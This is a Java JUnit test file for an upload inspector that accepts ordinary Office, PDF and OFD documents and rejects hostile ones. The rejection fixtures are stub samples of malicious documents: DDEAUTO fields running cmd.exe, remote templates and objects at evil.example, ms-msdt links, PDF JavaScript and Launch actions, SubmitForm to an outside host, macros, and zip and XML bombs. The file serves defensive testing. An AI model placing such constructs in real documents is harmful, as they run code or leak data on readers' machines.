package beijing.facility.attachments;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.Deflater;

import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.xddf.usermodel.chart.AxisPosition;
import org.apache.poi.xddf.usermodel.chart.ChartTypes;
import org.apache.poi.xddf.usermodel.chart.XDDFChartData;
import org.apache.poi.xddf.usermodel.chart.XDDFDataSourcesFactory;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFChart;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What may be in a document, and what may not however it is written. */
class DocumentContentTest {

    private static final String TYPES = "[Content_Types].xml";
    private static final String WORD = "word/document.xml";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    @TempDir
    Path directory;

    // what officials write

    @Test
    void anHonestWordFileWithPictureLinkHeaderAndChartIsTaken() throws Exception {
        try (XWPFDocument document = new XWPFDocument()) {
            document.createParagraph().createRun().setText("关于劲松街道社区嵌入式服务设施项目的报告");
            document.createParagraph().createHyperlinkRun("https://www.beijing.gov.cn").setText("首都之窗");
            document.createParagraph().createRun().addPicture(new java.io.ByteArrayInputStream(Papers.image("png", 1)),
                    XWPFDocument.PICTURE_TYPE_PNG, "图.png", 10_000, 10_000);
            document.createHeader(org.apache.poi.wp.usermodel.HeaderFooterType.DEFAULT).createParagraph().createRun().setText("朝阳区发展改革委");
            document.createTable(3, 3).getRow(0).getCell(0).setText("序号");
            XWPFChart chart = document.createChart();
            XDDFChartData bars = chart.createData(ChartTypes.BAR, chart.createCategoryAxis(AxisPosition.BOTTOM), chart.createValueAxis(AxisPosition.LEFT));
            bars.addSeries(XDDFDataSourcesFactory.fromArray(new String[] {"2025", "2026"}, "A2:A3"),
                    XDDFDataSourcesFactory.fromArray(new Integer[] {1, 2}, "B2:B3"));
            chart.plot(bars);
            try (XSSFWorkbook figures = new XSSFWorkbook()) {
                figures.createSheet().createRow(0).createCell(0).setCellValue(1);
                chart.setWorkbook(figures);
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                document.write(out);
                taken(FileFormat.DOCX, out.toByteArray());
            }
        }
    }

    @Test
    void anHonestWorkbookIsTakenInBothFormats() throws Exception {
        try (XSSFWorkbook workbook = new XSSFWorkbook(); HSSFWorkbook old = new HSSFWorkbook()) {
            for (org.apache.poi.ss.usermodel.Workbook book : new org.apache.poi.ss.usermodel.Workbook[] {workbook, old}) {
                for (int sheet = 0; sheet < 3; sheet++) {
                    var rows = book.createSheet("概算" + sheet);
                    for (int i = 0; i < 3_000; i++) {
                        var row = rows.createRow(i);
                        row.createCell(0).setCellValue("养老服务");
                        row.createCell(1).setCellValue(480);
                        row.createCell(2).setCellFormula("SUM(B1:B" + (i + 1) + ")");
                    }
                }
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                book.write(out);
                taken(book == workbook ? FileFormat.XLSX : FileFormat.XLS, out.toByteArray());
            }
        }
    }

    @Test
    void whatPapersAreIsTaken() throws Exception {
        taken(FileFormat.PDF, Papers.pdf("Paper"));
        taken(FileFormat.PDF, Papers.chinesePdf("批复"));
        taken(FileFormat.PDF, pdfWith("4 0 obj<</Length 9/Filter/FlateDecode>>stream\r\n", deflated("BT (JavaScript) Tj ET"), "\nendstream endobj"));
        taken(FileFormat.OFD, Papers.ofd());
        taken(FileFormat.DOC, Papers.compound("WordDocument"));
        taken(FileFormat.DOCX, word("word/_rels/settings.xml.rels", relation("attachedTemplate", "file:///C:\\Users\\li\\公文.dotx", "External")));
        taken(FileFormat.DOCX, word("word/_rels/document.xml.rels", relation("image", "file:///C:/Temp/clip_image001.png", "External")));
        taken(FileFormat.DOCX, word("word/_rels/document.xml.rels", relation("hyperlink", "附件1.docx", "External")));
        taken(FileFormat.XLS, Papers.compound("Workbook"));
    }

    // what nobody hands in

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void isRefusedWithItsReason(String name, FileFormat format, byte[] content, String rule) throws IOException {
        Path file = file(content);
        assertThat(format.fits(file)).as("is what it says").isTrue();
        Assertions.assertTimeout(Duration.ofSeconds(20), () ->
                assertThatThrownBy(() -> format.inspect(file)).isInstanceOf(Unacceptable.class).hasMessage(rule));
    }

    static Stream<Arguments> hostile() {
        byte[] vba = Papers.compound(Map.of("VBA/dir", new byte[100], "VBA/_VBA_PROJECT", new byte[100], "PROJECT", new byte[100]));
        byte[] ole = Papers.compound(Map.of("\u0001Ole10Native", new byte[100]));
        return Stream.of(
                // macros, however written
                bad("macros by their name", word("word/vbaProject.bin", "x"), Unacceptable.MACRO),
                bad("macros under another name", parts(WORD, xml("<document/>"), "word/media/image1.png", vba), Unacceptable.MACRO),
                bad("macros in a binary called xml", parts(WORD, xml("<document/>"), "word/styles.xml", vba), Unacceptable.MACRO),
                bad("macros by the declared type", parts(TYPES, xml("<Types><Override PartName='/word/x.bin' ContentType='application/vnd.ms-office.vbaProject'/></Types>"),
                        WORD, xml("<document/>")), Unacceptable.MACRO),
                bad("a document that says it has macros", parts(TYPES, xml("<Types><Override PartName='/word/document.xml' "
                        + "ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"), WORD, xml("<document/>")), Unacceptable.MACRO),
                bad("macros by a relationship", word("word/_rels/document.xml.rels",
                        "<Relationships><Relationship Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='media/a.png'/></Relationships>"),
                        Unacceptable.MACRO),
                bad("a macro sheet (XLM)", sheet("xl/macrosheets/sheet1.xml", "<x/>"), Unacceptable.MACRO),
                bad("a macro sheet under another name", sheet("xl/worksheets/sheet9.xml",
                        "<xm:macrosheet xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'/>"), Unacceptable.MACRO),
                bad("Auto_Open", sheet("xl/workbook2.xml", "<workbook><definedNames><definedName name='_xlnm.Auto_Open'>Sheet1!A1</definedName></definedNames></workbook>"),
                        Unacceptable.MACRO),
                Arguments.of("macros in a doc", FileFormat.DOC, Papers.compound(Map.of("WordDocument", new byte[600], "Macros/VBA/dir", new byte[10])), Unacceptable.MACRO),
                Arguments.of("macros in an xls", FileFormat.XLS, Papers.compound(Map.of("Workbook", new byte[600], "_VBA_PROJECT_CUR/VBA/dir", new byte[10])), Unacceptable.MACRO),
                Arguments.of("a macro sheet in an xls", FileFormat.XLS, Papers.compound(Map.of("Workbook", record(0x85, 0, 0, 0, 0, 2, 1, 1, 0, 'A'))), Unacceptable.MACRO),
                // objects
                bad("an OLE object", parts(WORD, xml("<document/>"), "word/embeddings/oleObject1.bin", ole), Unacceptable.OBJECT),
                bad("an OLE object as a picture", parts(WORD, xml("<document/>"), "word/media/image1.emf", ole), Unacceptable.OBJECT),
                bad("a program", word("word/embeddings/a.bin", "MZ program"), Unacceptable.OBJECT),
                bad("an ActiveX control", word("word/_rels/document.xml.rels", relation("control", "activeX/activeX1.xml", "")), Unacceptable.OBJECT),
                bad("another kind of document inside", word("word/_rels/document.xml.rels", relation("aFChunk", "chunk.html", "")), Unacceptable.OBJECT),
                bad("an archive inside", parts(WORD, xml("<document/>"), "word/media/a.png", Papers.zip("a.exe", "x")), Unacceptable.OBJECT),
                bad("archives in archives", parts(WORD, xml("<document/>"), "word/embeddings/a.xlsx",
                        parts(TYPES, xml("<Types/>"), "xl/embeddings/b.xlsx", parts(TYPES, xml("<Types/>")))), Unacceptable.OBJECT),
                bad("macros in the workbook of a chart", parts(WORD, xml("<document/>"), "word/embeddings/a.xlsx",
                        parts(TYPES, xml("<Types/>"), "xl/x.bin", vba)), Unacceptable.MACRO),
                Arguments.of("an object in a doc", FileFormat.DOC, Papers.compound(Map.of("WordDocument", new byte[600], "ObjectPool/_1/\u0001Ole10Native", new byte[10])),
                        Unacceptable.OBJECT),
                Arguments.of("an object in an xls", FileFormat.XLS, Papers.compound(Map.of("Workbook", new byte[600], "MBD0001/Package", new byte[10])), Unacceptable.OBJECT),
                Arguments.of("a program in an ofd", FileFormat.OFD, Papers.zip("OFD.xml", "<OFD/>", "Doc_0/Res/a.png", "MZ program"), Unacceptable.OBJECT),
                // what would be fetched
                bad("a remote template", word("word/_rels/settings.xml.rels", relation("attachedTemplate", "https://evil.example/a.dotm", "External")), Unacceptable.REMOTE),
                bad("a template on a share", word("word/_rels/settings.xml.rels", relation("attachedTemplate", "\\\\evil\\a.dotm", "External")), Unacceptable.REMOTE),
                bad("a remote object", word("word/_rels/document.xml.rels", relation("oleObject", "https://evil.example/a.html!", "External")), Unacceptable.REMOTE),
                bad("a remote picture", word("word/_rels/document.xml.rels", relation("image", "https://evil.example/a.png", "external")), Unacceptable.REMOTE),
                bad("a link that runs something", word("word/_rels/document.xml.rels", relation("hyperlink", "ms-msdt:/id", "External")), Unacceptable.REMOTE),
                bad("a link to a share", word("word/_rels/document.xml.rels", relation("hyperlink", "\\\\evil\\share", "External")), Unacceptable.REMOTE),
                bad("a link to a share by its address", word("word/_rels/document.xml.rels", relation("hyperlink", "file://evil/share", "External")), Unacceptable.REMOTE),
                bad("another workbook", sheet("xl/externalLinks/_rels/externalLink1.xml.rels", relation("externalLinkPath", "file:///c:/a.xlsx", "External")), Unacceptable.REMOTE),
                Arguments.of("a remote template of a doc", FileFormat.DOC, Papers.compound(Map.of("WordDocument", new byte[600], "1Table",
                        "\0https://evil.example/a.dotm\0".getBytes(StandardCharsets.UTF_16LE))), Unacceptable.REMOTE),
                // DDE
                bad("DDE in a field", word("word/header1.xml", "<hdr><p><fldSimple instr='DDEAUTO c:\\cmd.exe'/></p></hdr>"), Unacceptable.DDE),
                bad("DDE in pieces", word("word/footer1.xml", "<ftr><fldChar fldCharType='begin'/><instrText>D</instrText><instrText>DEA</instrText><instrText>UTO cmd</instrText></ftr>"),
                        Unacceptable.DDE),
                bad("DDE in figures", word("word/footnotes.xml", "<x><instrText> QUOTE 68 68 69 65</instrText></x>"), Unacceptable.DDE),
                bad("DDE between workbooks", sheet("xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"),
                        Unacceptable.DDE),
                Arguments.of("DDE in a doc", FileFormat.DOC, Papers.compound(Map.of("WordDocument", padded("\u0013 DDEAUTO c:\\cmd.exe \u0014"))), Unacceptable.DDE),
                Arguments.of("DDE in an xls", FileFormat.XLS, Papers.compound(Map.of("Workbook", record(0x1AE, 1, 0, 9, 0, 0, 'c', 'm', 'd', 3, '/', 'c'))), Unacceptable.DDE),
                // bombs
                bad("a part of 300 to 1", word("word/media/a.bmp", "0".repeat(40_000_000)), Unacceptable.BOMB),
                bad("ten thousand parts", thousands(), Unacceptable.BOMB),
                bad("entities of entities", word("word/settings.xml", "<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><x>&b;</x>"), Unacceptable.DAMAGED),
                bad("a part outside", word("../word/a.xml", "<x/>"), Unacceptable.DAMAGED),
                bad("a part twice", word("WORD/document.xml", "<x/>"), Unacceptable.DAMAGED),
                Arguments.of("a compound file that is none", FileFormat.DOC, broken(), Unacceptable.DAMAGED),
                // passwords
                Arguments.of("an xls with a password", FileFormat.XLS, Papers.compound(Map.of("Workbook", record(0x2F, 1, 0))), Unacceptable.ENCRYPTED),
                Arguments.of("a pdf with a password", FileFormat.PDF, pdfWith("trailer<</Encrypt 9 0 R>>", new byte[0], ""), Unacceptable.ENCRYPTED),
                // PDF
                pdf("a script", "5 0 obj<</S/JavaScript/JS(x)>>endobj"),
                pdf("a script in disguise", "5 0 obj<</S/J#61va#53cript/JS(x)>>endobj"),
                pdf("a program that is started", "5 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
                pdf("a file inside", "5 0 obj<</Type/EmbeddedFile>>stream\nx\nendstream endobj"),
                pdf("a form with scripts", "5 0 obj<</XFA 6 0 R>>endobj"),
                pdf("a form that is sent away", "5 0 obj<</S/SubmitForm/F(http://evil.example)>>endobj"),
                pdf("a script behind a false stream", "5 0 obj(stream\n)endobj 6 0 obj<</S/JavaScript>>endobj"),
                Arguments.of("a script in an object stream", FileFormat.PDF, pdfWith("5 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\r\n",
                        deflated("6 0 <</S/JavaScript/JS(x)>>"), "\nendstream endobj"), Unacceptable.SCRIPT),
                Arguments.of("an object stream deflated twice", FileFormat.PDF, pdfWith("5 0 obj<</Type/ObjStm/Filter[/FlateDecode/FlateDecode]>>stream\n",
                        deflated("x"), "\nendstream endobj"), Unacceptable.DAMAGED),
                Arguments.of("an object stream in another coding", FileFormat.PDF, pdfWith("5 0 obj<</Filter/ASCIIHexDecode/Type/Obj#53tm>>stream\n",
                        "36203020".getBytes(), "\nendstream endobj"), Unacceptable.DAMAGED),
                Arguments.of("a stream of a thousand to one", FileFormat.PDF, pdfWith("5 0 obj<</Filter/FlateDecode>>stream\n", deflated("0".repeat(100_000_000)), "\nendstream endobj"),
                        Unacceptable.BOMB));
    }

    private static Arguments bad(String name, byte[] content, String rule) {
        boolean word = new String(content, StandardCharsets.ISO_8859_1).contains("word/document.xml");
        return Arguments.of(name, word ? FileFormat.DOCX : FileFormat.XLSX, content, rule);
    }

    private static Arguments pdf(String name, String object) {
        return Arguments.of(name, FileFormat.PDF, pdfWith(object, new byte[0], ""), Unacceptable.SCRIPT);
    }

    private static byte[] pdfWith(String before, byte[] stream, String after) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(Papers.pdf("x"));
        out.writeBytes(before.getBytes(StandardCharsets.ISO_8859_1));
        out.writeBytes(stream);
        out.writeBytes(after.getBytes(StandardCharsets.ISO_8859_1));
        return out.toByteArray();
    }

    private static byte[] word(String part, String text) {
        return parts(WORD, xml("<document/>"), part, xml(text));
    }

    private static byte[] sheet(String part, String text) {
        return parts("xl/workbook.xml", xml("<workbook/>"), part, xml(text));
    }

    private static String relation(String type, String target, String mode) {
        return "<Relationships><Relationship Id='rId1' Type='" + OFFICE + type + "' Target='" + target + "'"
                + (mode.isEmpty() ? "" : " TargetMode='" + mode + "'") + "/></Relationships>";
    }

    private static byte[] xml(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** Names and contents by turns, with the list of types in front unless it is among them. */
    private static byte[] parts(Object... parts) {
        Map<String, byte[]> all = new LinkedHashMap<>();
        all.put(TYPES, xml("<Types/>"));
        for (int i = 0; i < parts.length; i += 2) {
            all.put((String) parts[i], (byte[]) parts[i + 1]);
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(out)) {
            for (Map.Entry<String, byte[]> part : all.entrySet()) {
                zip.putNextEntry(new java.util.zip.ZipEntry(part.getKey()));
                zip.write(part.getValue());
            }
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] thousands() {
        Object[] parts = new Object[2 + 2 * 6_000];
        parts[0] = WORD;
        parts[1] = xml("<document/>");
        for (int i = 0; i < 6_000; i++) {
            parts[2 + 2 * i] = "word/media/" + i;
            parts[3 + 2 * i] = new byte[0];
        }
        return parts(parts);
    }

    /** A directory, and nothing that it could stand in. */
    private static byte[] broken() {
        byte[] file = Papers.compound("WordDocument");
        java.util.Arrays.fill(file, 24, 76, (byte) 0x7F);
        return file;
    }

    private static byte[] record(int number, int... content) {
        byte[] record = new byte[4 + content.length + 600];
        record[0] = (byte) number;
        record[1] = (byte) (number >> 8);
        record[2] = (byte) content.length;
        for (int i = 0; i < content.length; i++) {
            record[4 + i] = (byte) content[i];
        }
        return record;
    }

    private static byte[] padded(String text) {
        return ("\0".repeat(600) + text).getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] deflated(String text) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
        deflater.setInput(text.getBytes(StandardCharsets.ISO_8859_1));
        deflater.finish();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 * 1024];
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return out.toByteArray();
    }

    private void taken(FileFormat format, byte[] content) throws IOException {
        Path file = file(content);
        assertThat(format.fits(file)).isTrue();
        assertThatCode(() -> format.inspect(file)).doesNotThrowAnyException();
    }

    private Path file(byte[] content) throws IOException {
        return Files.write(directory.resolve("document"), content);
    }
}
